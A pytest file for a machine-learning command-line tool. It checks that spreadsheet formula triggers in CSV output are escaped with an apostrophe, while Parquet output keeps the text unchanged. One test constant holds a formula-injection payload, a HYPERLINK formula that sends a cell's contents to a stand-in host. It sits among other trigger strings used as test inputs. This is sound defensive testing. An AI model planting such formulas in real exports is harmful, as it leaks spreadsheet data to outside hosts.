"""Text that spreadsheet programs take for formulas: an apostrophe goes before them in CSV."""

import numpy as np
import pytest

pd = pytest.importorskip("pandas")
for extra in ("typer", "rich", "skrub", "pyarrow", "skops"):
    pytest.importorskip(extra)

import pyarrow as pa  # noqa: E402
import pyarrow.parquet as pq  # noqa: E402

from vennforest.cli import main  # noqa: E402
from vennforest.tables.write import as_text  # noqa: E402

EVIL = '=HYPERLINK("http://x/?"&A1,"y")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
)
def test_formulas(text):
    assert as_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"])
def test_no_formulas(text):
    assert as_text(text) == text


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    rng = np.random.default_rng(0)
    x = rng.normal(size=60)
    frame = pd.DataFrame({"x": x, "@id": [EVIL, "-5", None, "plain"] * 15})
    frame["y"] = np.where(x + rng.normal(size=60) > 0, "=yes", "-no")
    frame.to_csv(folder / "d.csv", index=False)
    frame.to_parquet(folder / "d.parquet")
    command = ["fit", folder / "d.csv", "-t", "y", "--drop", "@id", "-o", folder / "m.skops"]
    assert run(*command, "--trees", 5, "--jobs", 1) == 0
    return folder


def run(*arguments):
    return main([str(argument) for argument in arguments])


@pytest.mark.parametrize("data", ["d.csv", "d.parquet", "view.parquet"])
def test_an_output_of_text_holds_no_formula(folder, tmp_path, data):
    if data == "view.parquet":  # a third type of text
        table = pq.read_table(folder / "d.parquet")
        at = table.column_names.index("@id")
        table = table.set_column(at, "@id", table["@id"].cast(pa.string_view()))
        pq.write_table(table, folder / data)
    command = ["predict", folder / "m.skops", folder / data, "--id", "@id", "-o"]
    assert run(*command, tmp_path / "p.csv") == 0
    escaped = pd.read_csv(tmp_path / "p.csv", dtype=str)
    assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + EVIL, "-5", "", "plain"]
    assert set(escaped["label"]) <= {"'=yes", "'-no"}
    assert run(*command, tmp_path / "p.parquet") == 0
    plain = pd.read_parquet(tmp_path / "p.parquet")  # text as it is
    assert plain["@id"].iloc[0] == EVIL
    assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]
